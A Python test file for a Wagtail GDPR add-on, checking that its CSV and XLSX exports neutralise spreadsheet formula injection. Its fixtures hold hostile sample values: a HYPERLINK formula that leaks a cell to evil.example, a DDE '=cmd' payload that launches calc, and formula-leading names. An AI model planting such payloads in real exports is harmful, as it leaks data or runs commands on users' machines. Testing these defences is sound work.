"""Every CSV and XLSX the add-on writes or serves is safe to open in a spreadsheet.

A member controls their browser's user agent and the names they type; text such as
``=HYPERLINK("http://evil.example/?x="&A1, "Click")`` must reach the privacy officer's
spreadsheet as text, never as a formula. data.json keeps the true values.
"""

import csv
import io

import openpyxl
import pytest
from django.test import RequestFactory

from tests.access_helpers import (  # noqa: F401 (clean_cache and private_reports are autouse)
    clean_cache,
    completed_copy,
    configure,
    make_purpose,
    make_superuser,
    open_report,
    private_reports,
)
from tests.testapp.models import Profile
from wagtail_gdpr import activity, consent, inventory, spreadsheets
from wagtail_gdpr.admin.modeladmin import ConsentRecordAdmin
from wagtail_gdpr.models import ConsentRecord, DataSubjectRequest, MemberActivity

HOSTILE_AGENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE_NAME = "=1+1"
LEDGER = ConsentRecordAdmin().url_helper
QUEUE = "/admin/gdpr/requests/"


def hostile_request():
    return RequestFactory().post("/", REMOTE_ADDR="203.0.113.9", HTTP_USER_AGENT=HOSTILE_AGENT)


def body_of(response) -> str:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return data.decode("utf-8-sig")


def all_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(cells):
    """No cell starts as a formula; the hostile values are there, neutralised."""
    for cell in cells:
        assert not str(cell).startswith(spreadsheets.FORMULA_STARTS), cell


# -- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_AGENT]
)
def test_text_that_starts_a_formula_is_neutralised(value):
    assert spreadsheets.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Alice", "", "-12.5", "+46", 42, -3, None, "a=b"])
def test_other_values_are_left_alone(value):
    assert spreadsheets.safe_cell(value) == value


def test_the_csv_writers_neutralise_every_cell():
    out = io.StringIO()
    spreadsheets.writer(out).writerows([["ok", "=1+1"], ["@x", 5]])
    writer = spreadsheets.dict_writer(out, fieldnames=["a"])
    writer.writerow({"a": "-2+3"})
    assert all_cells(out.getvalue()) == ["ok", "'=1+1", "'@x", "5", "'-2+3"]


# -- the admin's exports ------------------------------------------------------------------------


@pytest.fixture
def hostile_ledger(db):
    """A member who gave consent with a hostile user agent, and named themselves ``=1+1``."""
    member = make_superuser("mallory")
    member.first_name = HOSTILE_NAME
    member.save()
    purpose = make_purpose("newsletter", name="Newsletter")
    consent.give(member, purpose, source=ConsentRecord.SOURCE_BLOCK, request=hostile_request())
    return member


@pytest.mark.django_db
def test_the_consent_ledgers_csv_export_neutralises_the_user_agent(client, hostile_ledger):
    client.force_login(hostile_ledger)
    response = client.get(LEDGER.index_url, {"export": "csv"})
    assert response.status_code == 200
    cells = all_cells(body_of(response))
    assert "'" + HOSTILE_AGENT in cells
    assert_no_formula(cells)
    # The ledger itself keeps what the browser sent.
    assert ConsentRecord.objects.get().user_agent == HOSTILE_AGENT


@pytest.mark.django_db
def test_the_consent_ledgers_xlsx_export_neutralises_the_user_agent(client, hostile_ledger):
    client.force_login(hostile_ledger)
    response = client.get(LEDGER.index_url, {"export": "xlsx"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert "'" + HOSTILE_AGENT in cells
    assert_no_formula(cells)


@pytest.mark.django_db
def test_the_queues_export_neutralises_names(client, db):
    officer = make_superuser("dana")
    assignee = make_superuser(HOSTILE_NAME)
    member = make_superuser("member")
    DataSubjectRequest.objects.create(
        kind=DataSubjectRequest.ACCESS,
        status=DataSubjectRequest.QUEUED,
        member=member,
        assignee=assignee,
    )
    client.force_login(officer)
    for export in ("csv", "xlsx"):
        response = client.get(QUEUE, {"export": export})
        assert response.status_code == 200
        data = b"".join(response.streaming_content) if response.streaming else response.content
        if export == "csv":
            cells = all_cells(data.decode("utf-8-sig"))
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(data)).active
            cells = [c.value for row in sheet.iter_rows() for c in row if c.value is not None]
        assert "'" + HOSTILE_NAME in cells, export
        assert_no_formula(cells)


# -- the copy's CSVs ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_copys_csvs_are_neutralised_and_data_json_keeps_the_true_values(hostile_ledger):
    member = hostile_ledger
    Profile.objects.create(user=member, display_name=HOSTILE_NAME, nickname="@mallory")
    activity.record(member, MemberActivity.LOGIN, request=hostile_request())

    report = open_report(completed_copy(member).report)

    csv_names = [name for name in report.files if name.endswith(".csv")]
    assert csv_names
    cells = [c for name in csv_names for c in all_cells(report.files[name].decode("utf-8"))]
    assert_no_formula(cells)
    assert "'" + HOSTILE_AGENT in cells  # the activity log's and the ledger's browser
    assert "'" + HOSTILE_NAME in cells  # the display name and the first name
    assert "'@mallory" in cells
    # The machine-readable copy holds what is stored, unchanged.
    data = report.files["data.json"].decode("utf-8")
    assert '"=1+1"' in data
    assert '"@mallory"' in data
    assert "=HYPERLINK(" in data and "'=HYPERLINK(" not in data


# -- the record of processing --------------------------------------------------------------------


@pytest.mark.django_db
def test_the_record_of_processing_csv_is_neutralised(db):
    configure(controller_name="=cmd|' /C calc'!A0", security_measures="+Encryption")
    text = inventory.as_csv(inventory.build_inventory())
    cells = all_cells(text)
    assert_no_formula(cells)
    assert "'+Encryption" in cells
